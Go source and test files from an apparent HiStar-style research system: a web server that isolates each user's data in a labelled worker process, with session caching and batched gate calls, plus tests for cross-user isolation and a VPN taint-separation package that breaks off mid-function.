// remove detaches sess if it is still the cached session for its user.
func (c *sessionCache) remove(sess *session) {
	c.mu.Lock()
	if c.m[sess.user] == sess {
		c.detachLocked(sess)
	}
	c.mu.Unlock()
}

// teardown kills a detached session's worker.  It waits for cold creation to
// finish (creators never block on other sessions, so this terminates) and
// for any in-flight request to drain (the client holds sess.mu across its
// request).
func (c *sessionCache) teardown(v *session) {
	<-v.ready
	v.mu.Lock()
	if !v.dead {
		v.dead = true
		if v.worker != nil {
			v.worker.ExitQuietly()
		}
	}
	v.mu.Unlock()
}

// logout invalidates the user's cached session, reporting whether one
// existed.  The next request runs a full login.
func (c *sessionCache) logout(user string) bool {
	c.mu.Lock()
	sess, ok := c.m[user]
	if ok {
		c.detachLocked(sess)
	}
	c.mu.Unlock()
	if ok {
		c.logouts.Add(1)
		c.teardown(sess)
	}
	return ok
}

// close tears down every cached session.
func (c *sessionCache) close() {
	c.mu.Lock()
	var victims []*session
	for e := c.lru.Front(); e != nil; e = e.Next() {
		victims = append(victims, e.Value.(*session))
	}
	c.m = make(map[string]*session)
	c.lru.Init()
	c.mu.Unlock()
	for _, v := range victims {
		c.teardown(v)
	}
}

func (c *sessionCache) stats() SessionStats {
	c.mu.Lock()
	live := c.lru.Len()
	c.mu.Unlock()
	return SessionStats{
		Hits:          c.hits.Load(),
		Misses:        c.misses.Load(),
		ColdLogins:    c.coldLogins.Load(),
		BadPasswords:  c.badPasswords.Load(),
		Evictions:     c.evictions.Load(),
		IdleEvictions: c.idleEvictions.Load(),
		Logouts:       c.logouts.Load(),
		GoldenSpawns:  c.goldenSpawns.Load(),
		ScratchSpawns: c.scratchSpawns.Load(),
		Live:          live,
	}
}

// Reply segment framing: [4-byte little-endian payload length][1 status
// byte][payload].  Status 0 is success, 1 an application error (payload is
// the error text).  The segment is fixed-size so lanes read it with one
// constant-length chained OpSegmentRead.
const (
	replySegSize    = 4096
	replyHeaderSize = 5
	replyOK         = 0
	replyAppErr     = 1
)

func encodeReply(body string, appErr error) []byte {
	status := byte(replyOK)
	payload := body
	if appErr != nil {
		status = replyAppErr
		payload = appErr.Error()
	}
	if len(payload) > replySegSize-replyHeaderSize {
		payload = payload[:replySegSize-replyHeaderSize]
	}
	frame := make([]byte, replyHeaderSize+len(payload))
	binary.LittleEndian.PutUint32(frame[0:4], uint32(len(payload)))
	frame[4] = status
	copy(frame[replyHeaderSize:], payload)
	return frame
}

func decodeReply(frame []byte) (string, error) {
	if len(frame) < replyHeaderSize {
		return "", errors.New("webd: short reply frame")
	}
	n := int(binary.LittleEndian.Uint32(frame[0:4]))
	if n > len(frame)-replyHeaderSize {
		return "", errors.New("webd: corrupt reply frame")
	}
	payload := string(frame[replyHeaderSize : replyHeaderSize+n])
	if frame[4] != replyOK {
		return "", errors.New(payload)
	}
	return payload, nil
}
