// Package webd is the Asbestos-style web service of Section 6.4 at
// production scale: a connection demultiplexer hands each request to a
// per-user worker whose label carries that user's categories, so buggy or
// malicious web application code cannot mix one user's data into another
// user's response.  Authentication uses the Section 6.2 service (package
// auth).
//
// The steady-state architecture has three layers:
//
//   - A session cache (bounded LRU with idle eviction and explicit logout)
//     keeps one authenticated worker process per recently seen user.  A cold
//     request pays for process creation and the full gate login protocol; a
//     warm request re-checks the credential against the stored verifier and
//     reuses the worker.
//
//   - Each cached worker exposes a serve gate (label {ur⋆, uw⋆, 1}) whose
//     entry runs the application handler and writes the response into a
//     reply segment labeled {ur3, uw0, 1}.  Responses are therefore tainted
//     with the user's secrecy from the moment they exist: nothing that has
//     not entered the user's gate can observe them.
//
//   - The demultiplexer is one process with several lane threads.  Each lane
//     drains a batch of requests from the server's queue and drives its own
//     syscall ring: per request, one OpGateEnter (which transfers the lane
//     to the session's requested label — its own base plus that user's
//     ur⋆/uw⋆) chained to one OpSegmentRead of the reply segment, checked
//     against the post-entry label.  After the batch the lane resets itself
//     to its base label, so user privileges never outlive the batch and
//     never accumulate across users: each gate transfer replaces the label
//     outright.
//
// The kernel enforces the isolation story — the lane holds exactly one
// user's categories at a time, and the only path to a reply is through that
// user's gate.
package webd

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"histar/internal/auth"
	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/unixlib"
)

// Handler is the (untrusted) web application code, run in a per-user worker
// process with only that user's privileges.
type Handler func(worker *unixlib.Process, user, path string) (string, error)

// Config tunes the server; the zero value picks the defaults.
type Config struct {
	// MaxSessions bounds the session cache (default 128).  Past it the
	// least-recently-used session's worker is torn down.
	MaxSessions int
	// IdleTimeout evicts sessions unused for this long (default 5m; < 0
	// disables idle eviction).
	IdleTimeout time.Duration
	// Lanes is the number of demultiplexer threads, each with its own ring
	// (default 4).
	Lanes int
	// MaxBatch caps how many requests one lane submits per ring Wait
	// (default 16).
	MaxBatch int
	// DisableSessionCache makes every request pay a fresh process + full
	// login (the pre-session-cache behavior); the load harness's baseline.
	DisableSessionCache bool
	// Golden, when set, makes the cold-login path spawn the user's sandbox
	// by cloning this golden image (O(metadata): template categories are
	// remapped to the user's, all data is shared copy-on-write).  The
	// sandbox lives in the worker's process container, so session teardown
	// reclaims it with the worker.
	Golden *unixlib.GoldenImage
	// SandboxBytes, when Golden is nil, makes the cold-login path build an
	// equivalent sandbox from scratch (creating and writing every byte) —
	// the baseline golden spawns replace.  0 builds no sandbox.
	SandboxBytes int
}

func (c Config) withDefaults() Config {
	if c.MaxSessions <= 0 {
		c.MaxSessions = 128
	}
	if c.IdleTimeout == 0 {
		c.IdleTimeout = 5 * time.Minute
	}
	if c.Lanes <= 0 {
		c.Lanes = 4
	}
	if c.MaxBatch <= 0 {
		c.MaxBatch = 16
	}
	return c
}

// Server is the web service: demultiplexer lanes + session-cached per-user
// workers.
type Server struct {
	sys  *unixlib.System
	auth *auth.Service
	app  Handler
	cfg  Config

	sessions *sessionCache
	reqCh    chan *pending
	quit     chan struct{}
	wg       sync.WaitGroup

	// laneBase is the demux process's base thread label; session request
	// labels extend it with the user's categories.
	laneBase label.Label

	startOnce sync.Once
	startErr  error
	demux     *unixlib.Process
}

// ErrUnauthorized is returned for bad credentials.
var ErrUnauthorized = errors.New("webd: unauthorized")

// New builds a server with default configuration.
func New(sys *unixlib.System, authSvc *auth.Service, app Handler) *Server {
	return NewWithConfig(sys, authSvc, app, Config{})
}

// NewWithConfig builds a server around an authentication service and an
// application handler.  The demultiplexer process and its lanes start
// lazily, on the first request that uses the session cache.
func NewWithConfig(sys *unixlib.System, authSvc *auth.Service, app Handler, cfg Config) *Server {
	cfg = cfg.withDefaults()
	s := &Server{
		sys:   sys,
		auth:  authSvc,
		app:   app,
		cfg:   cfg,
		reqCh: make(chan *pending, cfg.Lanes*cfg.MaxBatch),
		quit:  make(chan struct{}),
	}
	s.sessions = newSessionCache(s, cfg.MaxSessions, cfg.IdleTimeout)
	return s
}

// Request is one HTTP-ish request.
type Request struct {
	User     string
	Password string
	Path     string
}

// pending is one request in flight between a client goroutine and a lane.
// The client holds its session's mutex from enqueue to completion, so a lane
// never sees two pendings for one session in a batch.
type pending struct {
	sess *session
	path string
	done chan struct{}
	body string
	err  error
}

// lane is one demultiplexer thread: its own syscall context, ring, and the
// base label/clearance it returns to between batches.
type lane struct {
	tc   *kernel.ThreadCall
	ring *kernel.Ring
	base label.Label
	clr  label.Label
}

// start creates the demultiplexer process and its lane threads.
func (s *Server) start() error {
	s.startOnce.Do(func() {
		demux, err := s.sys.NewInitProcess("")
		if err != nil {
			s.startErr = err
			return
		}
		s.demux = demux
		s.laneBase, _ = demux.TC.SelfLabel()
		for i := 0; i < s.cfg.Lanes; i++ {
			tc, err := demux.NewThread(fmt.Sprintf("webd lane %d", i))
			if err != nil {
				s.startErr = err
				return
			}
			base, _ := tc.SelfLabel()
			clr, _ := tc.SelfClearance()
			ln := &lane{tc: tc, ring: tc.NewRing(), base: base, clr: clr}
			s.wg.Add(1)
			go s.laneLoop(ln)
		}
	})
	return s.startErr
}

// Serve authenticates the request and runs the application handler in the
// user's worker, returning the response.  With the session cache enabled the
// warm path is: verifier check, enqueue to a lane, one batched gate call,
// one chained reply read.
func (s *Server) Serve(req Request) (string, error) {
	if s.cfg.DisableSessionCache {
		return s.serveUncached(req)
	}
	if err := s.start(); err != nil {
		return "", err
	}
	for attempt := 0; attempt < 3; attempt++ {
		sess, err := s.sessions.acquire(req.User, req.Password)
		if err != nil {
			return "", err
		}
		p := &pending{sess: sess, path: req.Path, done: make(chan struct{})}
		s.reqCh <- p
		<-p.done
		s.sessions.release(sess)
		if p.err != nil {
			// A torn-down session (logout or eviction racing the enqueue)
			// surfaces as a kernel error on the gate call; retry cold.
			if errors.Is(p.err, kernel.ErrNoSuchObject) || errors.Is(p.err, kernel.ErrSkipped) {
				s.sessions.remove(sess)
				continue
			}
			return "", p.err
		}
		return "HTTP/1.0 200 OK\r\n\r\n" + p.body, nil
	}
	return "", errors.New("webd: session kept disappearing")
}

// serveUncached is the original per-request path: a fresh worker process and
// a full gate login for every request.  Kept as the load harness's baseline
// and the fallback when the cache is disabled.
func (s *Server) serveUncached(req Request) (string, error) {
	worker, err := s.sys.NewInitProcess("")
	if err != nil {
		return "", err
	}
	defer worker.ExitQuietly()
	if err := s.auth.Login(worker, req.User, req.Password); err != nil {
		return "", fmt.Errorf("%w: %v", ErrUnauthorized, err)
	}
	body, err := s.app(worker, req.User, req.Path)
	if err != nil {
		return "", err
	}
	return "HTTP/1.0 200 OK\r\n\r\n" + body, nil
}

// laneLoop drains batches of pendings and drives them through the lane's
// ring: per pending an OpGateEnter chained to an OpSegmentRead of the reply.
func (s *Server) laneLoop(ln *lane) {
	defer s.wg.Done()
	batch := make([]*pending, 0, s.cfg.MaxBatch)
	for {
		select {
		case <-s.quit:
			return
		case p := <-s.reqCh:
			batch = append(batch[:0], p)
			for len(batch) < s.cfg.MaxBatch {
				select {
				case q := <-s.reqCh:
					batch = append(batch, q)
				default:
					goto full
				}
			}
		full:
			s.runBatch(ln, batch)
		}
	}
}

// runBatch submits one chain per pending and completes them from the ring's
// completion queue.  Each gate entry replaces the lane's label with that
// session's requested label, and the chained read is checked against it; the
// lane drops back to its base label before handing results back.
func (s *Server) runBatch(ln *lane, batch []*pending) {
	for _, p := range batch {
		ln.ring.Submit(
			kernel.RingEntry{Op: kernel.OpGateEnter, Seg: p.sess.gate, Gate: &kernel.GateRequest{
				Label:     p.sess.reqLabel,
				Clearance: ln.clr,
				Verify:    ln.base,
				Args:      []byte(p.path),
			}},
			kernel.RingEntry{Op: kernel.OpSegmentRead, Seg: p.sess.reply, Len: replySegSize, Chain: true},
		)
	}
	comps, err := ln.ring.Wait(0)
	// Shed the last session's categories before anyone consumes results.
	_ = ln.tc.SelfSetLabel(ln.base)
	for i, p := range batch {
		switch {
		case err != nil:
			p.err = err
		case comps[2*i].Err != nil:
			p.err = comps[2*i].Err
		case len(comps[2*i].Val) > 0:
			p.err = errors.New("webd: " + string(comps[2*i].Val))
		case comps[2*i+1].Err != nil:
			p.err = comps[2*i+1].Err
		default:
			p.body, p.err = decodeReply(comps[2*i+1].Val)
		}
		close(p.done)
	}
}

// Logout invalidates the user's cached session, reporting whether one
// existed; the user's next request pays a full login.
func (s *Server) Logout(user string) bool {
	return s.sessions.logout(user)
}

// SessionStats returns session-cache counters.
func (s *Server) SessionStats() SessionStats {
	return s.sessions.stats()
}

// Close stops the lanes and tears down every cached session and the
// demultiplexer process.  In-flight Serve calls must have drained first.
func (s *Server) Close() {
	close(s.quit)
	s.wg.Wait()
	s.sessions.close()
	if s.demux != nil {
		s.demux.ExitQuietly()
	}
}

// ProfileApp is a tiny demo application: it stores and retrieves per-user
// profile data under /home/<user>/profile, labeled with the user's
// categories, so the only way it could ever serve one user's profile to
// another is if the kernel's label checks failed.
func ProfileApp(worker *unixlib.Process, user, path string) (string, error) {
	profile := "/home/" + user + "/profile"
	switch {
	case strings.HasPrefix(path, "/profile/set/"):
		value := strings.TrimPrefix(path, "/profile/set/")
		if err := worker.WriteFile(profile, []byte(value), label.Label{}); err != nil {
			if err == unixlib.ErrExist {
				fd, oerr := worker.Open(profile, unixlib.OWrite)
				if oerr != nil {
					return "", oerr
				}
				defer worker.Close(fd)
				if _, werr := worker.Write(fd, []byte(value)); werr != nil {
					return "", werr
				}
				return "updated", nil
			}
			return "", err
		}
		return "stored", nil
	case path == "/profile":
		data, err := worker.ReadFile(profile)
		if err != nil {
			return "", err
		}
		return string(data), nil
	default:
		return "", fmt.Errorf("webd: no route for %q", path)
	}
}
