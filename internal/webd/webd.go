// Package webd is the Asbestos-style web service of Section 6.4: a
// connection demultiplexer hands each request to a per-user worker whose
// label carries that user's categories, so buggy or malicious web
// application code cannot mix one user's data into another user's response.
// Authentication uses the Section 6.2 service (package auth).
package webd

import (
	"errors"
	"fmt"
	"strings"

	"histar/internal/auth"
	"histar/internal/label"
	"histar/internal/unixlib"
)

// Handler is the (untrusted) web application code, run in a per-user worker
// process with only that user's privileges.
type Handler func(worker *unixlib.Process, user, path string) (string, error)

// Server is the web service: demultiplexer + per-user workers.
type Server struct {
	sys  *unixlib.System
	auth *auth.Service
	app  Handler
}

// ErrUnauthorized is returned for bad credentials.
var ErrUnauthorized = errors.New("webd: unauthorized")

// New builds a server around an authentication service and an application
// handler.
func New(sys *unixlib.System, authSvc *auth.Service, app Handler) *Server {
	return &Server{sys: sys, auth: authSvc, app: app}
}

// Request is one HTTP-ish request.
type Request struct {
	User     string
	Password string
	Path     string
}

// Serve authenticates the request, spins up a worker process holding only
// that user's privileges, runs the application handler in it, and returns
// the response.  The demultiplexer itself never holds more than one user's
// categories at a time per worker, and the worker cannot read any other
// user's files — the kernel enforces that, not this code.
func (s *Server) Serve(req Request) (string, error) {
	// The worker starts with no user privileges; login grants exactly one
	// user's categories.
	worker, err := s.sys.NewInitProcess("")
	if err != nil {
		return "", err
	}
	defer worker.ExitQuietly()
	if err := s.auth.Login(worker, req.User, req.Password); err != nil {
		return "", fmt.Errorf("%w: %v", ErrUnauthorized, err)
	}
	body, err := s.app(worker, req.User, req.Path)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("HTTP/1.0 200 OK\r\n\r\n%s", body), nil
}

// ProfileApp is a tiny demo application: it stores and retrieves per-user
// profile data under /home/<user>/profile, labeled with the user's
// categories, so the only way it could ever serve one user's profile to
// another is if the kernel's label checks failed.
func ProfileApp(worker *unixlib.Process, user, path string) (string, error) {
	profile := "/home/" + user + "/profile"
	switch {
	case strings.HasPrefix(path, "/profile/set/"):
		value := strings.TrimPrefix(path, "/profile/set/")
		if err := worker.WriteFile(profile, []byte(value), label.Label{}); err != nil {
			if err == unixlib.ErrExist {
				fd, oerr := worker.Open(profile, unixlib.OWrite)
				if oerr != nil {
					return "", oerr
				}
				defer worker.Close(fd)
				if _, werr := worker.Write(fd, []byte(value)); werr != nil {
					return "", werr
				}
				return "updated", nil
			}
			return "", err
		}
		return "stored", nil
	case path == "/profile":
		data, err := worker.ReadFile(profile)
		if err != nil {
			return "", err
		}
		return string(data), nil
	default:
		return "", fmt.Errorf("webd: no route for %q", path)
	}
}
