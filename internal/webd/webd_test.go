package webd

import (
	"errors"
	"strings"
	"testing"

	"histar/internal/auth"
	"histar/internal/kernel"
	"histar/internal/unixlib"
)

func bootWeb(t *testing.T) *Server {
	t.Helper()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 17}})
	if err != nil {
		t.Fatal(err)
	}
	authSvc := auth.New(sys)
	for _, u := range []struct{ name, pw string }{{"alice", "wonderland"}, {"bob", "builder"}} {
		if _, err := authSvc.Register(u.name, u.pw); err != nil {
			t.Fatal(err)
		}
	}
	return New(sys, authSvc, ProfileApp)
}

func TestPerUserProfilesAreIsolated(t *testing.T) {
	srv := bootWeb(t)
	if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile/set/ssn=111-22-3333"}); err != nil {
		t.Fatal(err)
	}
	if _, err := srv.Serve(Request{User: "bob", Password: "builder", Path: "/profile/set/ssn=999-88-7777"}); err != nil {
		t.Fatal(err)
	}
	aliceResp, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile"})
	if err != nil || !strings.Contains(aliceResp, "111-22-3333") {
		t.Errorf("alice's profile = %q, %v", aliceResp, err)
	}
	bobResp, err := srv.Serve(Request{User: "bob", Password: "builder", Path: "/profile"})
	if err != nil || !strings.Contains(bobResp, "999-88-7777") {
		t.Errorf("bob's profile = %q, %v", bobResp, err)
	}
	if strings.Contains(bobResp, "111-22-3333") {
		t.Error("bob's response leaked alice's data")
	}
}

func TestBadPasswordRejected(t *testing.T) {
	srv := bootWeb(t)
	if _, err := srv.Serve(Request{User: "alice", Password: "wrong", Path: "/profile"}); !errors.Is(err, ErrUnauthorized) {
		t.Errorf("expected unauthorized, got %v", err)
	}
}

func TestBuggyHandlerCannotCrossUsers(t *testing.T) {
	// A malicious/buggy application handler tries to read another user's
	// profile directly; the kernel's label checks stop it regardless of the
	// application code.
	srv := bootWeb(t)
	srv.app = func(worker *unixlib.Process, user, path string) (string, error) {
		other := "alice"
		if user == "alice" {
			other = "bob"
		}
		if data, err := worker.ReadFile("/home/" + other + "/profile"); err == nil {
			return "LEAK:" + string(data), nil
		}
		return "denied as expected", nil
	}
	if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile/set/secret"}); err != nil {
		t.Fatal(err)
	}
	resp, err := srv.Serve(Request{User: "bob", Password: "builder", Path: "/anything"})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(resp, "LEAK:") {
		t.Error("buggy handler read another user's data")
	}
}
