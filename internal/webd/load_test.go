package webd

import (
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"histar/internal/auth"
	"histar/internal/kernel"
	"histar/internal/unixlib"
)

func bootWebCfg(t *testing.T, cfg Config) (*Server, *unixlib.System) {
	t.Helper()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 17}})
	if err != nil {
		t.Fatal(err)
	}
	authSvc := auth.New(sys)
	for _, u := range []struct{ name, pw string }{{"alice", "wonderland"}, {"bob", "builder"}} {
		if _, err := authSvc.Register(u.name, u.pw); err != nil {
			t.Fatal(err)
		}
	}
	srv := NewWithConfig(sys, authSvc, ProfileApp, cfg)
	t.Cleanup(srv.Close)
	return srv, sys
}

func TestSessionCacheHitsSkipLogin(t *testing.T) {
	srv, _ := bootWebCfg(t, Config{})
	for i := 0; i < 5; i++ {
		if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile/set/v"}); err != nil {
			t.Fatal(err)
		}
	}
	st := srv.SessionStats()
	if st.ColdLogins != 1 {
		t.Errorf("cold logins = %d, want 1", st.ColdLogins)
	}
	if st.Hits != 4 || st.Misses != 1 {
		t.Errorf("hits/misses = %d/%d, want 4/1", st.Hits, st.Misses)
	}
}

func TestSessionCacheRejectsBadPasswordOnHit(t *testing.T) {
	srv, _ := bootWebCfg(t, Config{})
	if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile/set/v"}); err != nil {
		t.Fatal(err)
	}
	// The cached worker must not let a wrong password ride an existing
	// session.
	if _, err := srv.Serve(Request{User: "alice", Password: "wrong", Path: "/profile"}); !errors.Is(err, ErrUnauthorized) {
		t.Errorf("hit with bad password: err = %v, want ErrUnauthorized", err)
	}
	if st := srv.SessionStats(); st.BadPasswords != 1 {
		t.Errorf("bad passwords = %d, want 1", st.BadPasswords)
	}
}

func TestLogoutForcesColdLogin(t *testing.T) {
	srv, _ := bootWebCfg(t, Config{})
	if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile/set/v"}); err != nil {
		t.Fatal(err)
	}
	if !srv.Logout("alice") {
		t.Fatal("logout found no session")
	}
	if srv.Logout("alice") {
		t.Error("second logout found a session")
	}
	if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile"}); err != nil {
		t.Fatal(err)
	}
	if st := srv.SessionStats(); st.ColdLogins != 2 {
		t.Errorf("cold logins = %d, want 2 (logout must invalidate)", st.ColdLogins)
	}
}

func TestSessionCacheCapacityEviction(t *testing.T) {
	srv, _ := bootWebCfg(t, Config{MaxSessions: 1})
	if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile/set/a"}); err != nil {
		t.Fatal(err)
	}
	if _, err := srv.Serve(Request{User: "bob", Password: "builder", Path: "/profile/set/b"}); err != nil {
		t.Fatal(err)
	}
	st := srv.SessionStats()
	if st.Live != 1 {
		t.Errorf("live sessions = %d, want 1", st.Live)
	}
	if st.Evictions != 1 {
		t.Errorf("evictions = %d, want 1", st.Evictions)
	}
	// Alice was evicted; serving her again is a cold login, and her data
	// survived (it lives in the filesystem, not the session).
	resp, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile"})
	if err != nil || !strings.Contains(resp, "a") {
		t.Errorf("alice after eviction = %q, %v", resp, err)
	}
	if st := srv.SessionStats(); st.ColdLogins != 3 {
		t.Errorf("cold logins = %d, want 3", st.ColdLogins)
	}
}

func TestSessionIdleEviction(t *testing.T) {
	srv, _ := bootWebCfg(t, Config{IdleTimeout: time.Millisecond})
	if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile/set/v"}); err != nil {
		t.Fatal(err)
	}
	time.Sleep(5 * time.Millisecond)
	// The sweep is lazy; any acquisition triggers it.
	if _, err := srv.Serve(Request{User: "bob", Password: "builder", Path: "/profile/set/v"}); err != nil {
		t.Fatal(err)
	}
	if st := srv.SessionStats(); st.IdleEvictions == 0 {
		t.Error("idle session was not evicted")
	}
}

// TestReplySegmentUnreadableOutsideGate checks the label story the reply
// path rests on: the demultiplexer process, before entering a user's serve
// gate, cannot read that user's reply segment.
func TestReplySegmentUnreadableOutsideGate(t *testing.T) {
	srv, _ := bootWebCfg(t, Config{})
	if _, err := srv.Serve(Request{User: "alice", Password: "wonderland", Path: "/profile/set/ssn=111"}); err != nil {
		t.Fatal(err)
	}
	sess, err := srv.sessions.acquire("alice", "wonderland")
	if err != nil {
		t.Fatal(err)
	}
	defer srv.sessions.release(sess)
	if _, err := srv.demux.TC.SegmentRead(sess.reply, 0, replySegSize); !errors.Is(err, kernel.ErrLabel) {
		t.Errorf("demux read of reply segment: err = %v, want ErrLabel", err)
	}
}

// TestConcurrentCrossUserIsolation hammers the session cache from many
// goroutines with a buggy handler that always tries to read the other
// user's profile.  The kernel's label checks — not anything in webd — must
// keep every response clean.  Run with -race this also exercises the
// lane/session locking.
func TestConcurrentCrossUserIsolation(t *testing.T) {
	srv, _ := bootWebCfg(t, Config{MaxSessions: 2, Lanes: 2, MaxBatch: 4})
	srv.app = func(worker *unixlib.Process, user, path string) (string, error) {
		other := "alice"
		if user == "alice" {
			other = "bob"
		}
		if data, err := worker.ReadFile("/home/" + other + "/profile"); err == nil {
			return "LEAK:" + string(data), nil
		}
		own, err := worker.ReadFile("/home/" + user + "/profile")
		if err != nil {
			return "no profile yet", nil
		}
		return "own:" + string(own), nil
	}
	// Seed both profiles through the real app (the leaky handler above only
	// reads), then swap the leaky handler back in.
	leaky := srv.app
	srv.app = ProfileApp
	for _, u := range []struct{ name, pw, v string }{{"alice", "wonderland", "alice-secret"}, {"bob", "builder", "bob-secret"}} {
		if _, err := srv.Serve(Request{User: u.name, Password: u.pw, Path: "/profile/set/" + u.v}); err != nil {
			t.Fatal(err)
		}
	}
	srv.app = leaky

	var wg sync.WaitGroup
	errs := make(chan string, 64)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			user, pw, own := "alice", "wonderland", "alice-secret"
			if g%2 == 1 {
				user, pw, own = "bob", "builder", "bob-secret"
			}
			for i := 0; i < 25; i++ {
				resp, err := srv.Serve(Request{User: user, Password: pw, Path: "/x"})
				if err != nil {
					errs <- "serve error: " + err.Error()
					return
				}
				if strings.Contains(resp, "LEAK:") {
					errs <- "cross-user leak: " + resp
					return
				}
				if !strings.Contains(resp, "own:"+own) {
					errs <- "wrong user's data for " + user + ": " + resp
					return
				}
				if i%10 == 9 {
					srv.Logout(user)
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}

func TestRunLoadSmoke(t *testing.T) {
	rep, err := RunLoad(LoadConfig{
		Users:       8,
		Requests:    80,
		Concurrency: 4,
		LogoutEvery: 40,
		Server:      Config{MaxSessions: 6, Lanes: 2, MaxBatch: 4},
	})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Errors != 0 {
		t.Errorf("load errors = %d, want 0", rep.Errors)
	}
	if rep.RPS <= 0 || rep.P50Micros <= 0 {
		t.Errorf("degenerate report: %+v", rep)
	}
	if rep.Sessions.Hits == 0 || rep.Sessions.ColdLogins == 0 {
		t.Errorf("expected both warm and cold traffic: %+v", rep.Sessions)
	}
	if rep.RingGateCalls == 0 {
		t.Error("no gate calls went through the ring")
	}
	if rep.WireBytes == 0 || rep.SimWireMillis <= 0 {
		t.Error("wire accounting missing")
	}
}

func TestRunLoadBaselineSmoke(t *testing.T) {
	rep, err := RunLoad(LoadConfig{
		Users:       4,
		Requests:    12,
		Concurrency: 2,
		Server:      Config{DisableSessionCache: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Errors != 0 {
		t.Errorf("load errors = %d, want 0", rep.Errors)
	}
	if !rep.Baseline {
		t.Error("report not marked baseline")
	}
	if rep.Sessions.Hits != 0 {
		t.Errorf("baseline used the session cache: %+v", rep.Sessions)
	}
}
