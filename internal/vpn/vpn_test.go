package vpn

import (
	"bytes"
	"testing"

	"histar/internal/kernel"
	"histar/internal/netd"
	"histar/internal/unixlib"
)

func bootVPN(t *testing.T) (*unixlib.System, *netd.Daemon, *netd.Daemon, *Client) {
	t.Helper()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 13}})
	if err != nil {
		t.Fatal(err)
	}
	inet, err := netd.New(sys, netd.Options{TaintName: "i"})
	if err != nil {
		t.Fatal(err)
	}
	vpnStack, err := netd.New(sys, netd.Options{TaintName: "v"})
	if err != nil {
		t.Fatal(err)
	}
	// The VPN concentrator on the Internet side decrypts with the same PSK
	// and answers.
	clientProc, err := sys.NewInitProcess("")
	if err != nil {
		t.Fatal(err)
	}
	if err := GrantTaintOwnership(sys, inet, vpnStack, clientProc); err != nil {
		t.Fatal(err)
	}
	client, err := NewClient(clientProc, inet, vpnStack, "vpn-peer:1194", "shared-secret")
	if err != nil {
		t.Fatal(err)
	}
	inet.RegisterRemote("vpn-peer:1194", func(req []byte) []byte {
		plain, err := client.Decrypt(req)
		if err != nil {
			return client.Encrypt([]byte("DECRYPT-ERROR"))
		}
		return client.Encrypt(append([]byte("peer saw: "), plain...))
	})
	return sys, inet, vpnStack, client
}

func TestTunnelRoundTripIsEncrypted(t *testing.T) {
	sys, inet, _, client := bootVPN(t)
	corpProc, _ := sys.NewInitProcess("employee")
	resp, err := client.SendOverTunnel(corpProc, []byte("GET /intranet"))
	if err != nil {
		t.Fatal(err)
	}
	if string(resp) != "peer saw: GET /intranet" {
		t.Errorf("tunnel response = %q", resp)
	}
	// The bytes on the Internet link were ciphertext, not the plaintext.
	st := inet.Stats()
	if st.BytesSent == 0 {
		t.Fatal("nothing crossed the Internet link")
	}
	if bytes.Contains(client.Encrypt([]byte("GET /intranet")), []byte("GET /intranet")) {
		t.Error("encryption is a no-op")
	}
}

func TestClientRequiresOwnershipOfBothTaints(t *testing.T) {
	sys, inet, vpnStack, _ := bootVPN(t)
	plain, _ := sys.NewInitProcess("")
	if _, err := NewClient(plain, inet, vpnStack, "vpn-peer:1194", "k"); err != ErrNotOwner {
		t.Errorf("expected ErrNotOwner, got %v", err)
	}
}

func TestInternetTaintedProcessCannotUseTunnel(t *testing.T) {
	sys, inet, _, client := bootVPN(t)
	inet.RegisterRemote("www:80", func([]byte) []byte { return []byte("public page") })
	browser, _ := sys.NewInitProcess("")
	sock, err := netd.Dial(inet, browser, "www:80")
	if err != nil {
		t.Fatal(err)
	}
	sock.Send(nil)
	sock.Recv(64) // taints the browser i2
	if _, err := client.SendOverTunnel(browser, []byte("exfiltrate")); err == nil {
		t.Error("the tunnel must refuse data from an i-tainted process")
	}
}
