// Package vpn implements the VPN isolation application of Section 6.3: two
// network stacks (the Internet stack, whose receive taint is i, and the VPN
// stack, whose receive taint is v) run side by side, and the only component
// allowed to move data between them is the VPN client, which owns both i and
// v, encrypts outbound traffic, decrypts inbound traffic, and swaps the
// taints as it does so.  Everything else on the machine is tainted by
// whichever network it has touched and therefore cannot bridge the firewall.
package vpn

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/sha256"
	"errors"
	"fmt"

	"histar/internal/label"
	"histar/internal/netd"
	"histar/internal/unixlib"
)

// ErrNotOwner is returned when the process running the client does not own
// both network taint categories.
var ErrNotOwner = errors.New("vpn: client process must own both network taint categories")

// Client is the OpenVPN-style tunnel client.  It runs as a process that owns
// both stacks' taint categories (granted by whoever configured the tunnel)
// and is trusted exactly as far as the paper says: to taint incoming VPN
// packets with v2, to refuse to forward anything tainted i onto the VPN (and
// vice versa), and to encrypt correctly.
type Client struct {
	proc *unixlib.Process
	// Inet is the Internet-facing stack, VPN the tunnel-facing stack.
	Inet, VPN *netd.Daemon
	// PeerAddr is the remote VPN concentrator on the Internet stack.
	PeerAddr string
	aead     cipher.AEAD
}

// NewClient builds a tunnel client on proc.  The process must own both
// stacks' taint categories, since swapping taints is precisely its job.
func NewClient(proc *unixlib.Process, inet, vpnStack *netd.Daemon, peerAddr, presharedKey string) (*Client, error) {
	lbl, err := proc.TC.SelfLabel()
	if err != nil {
		return nil, err
	}
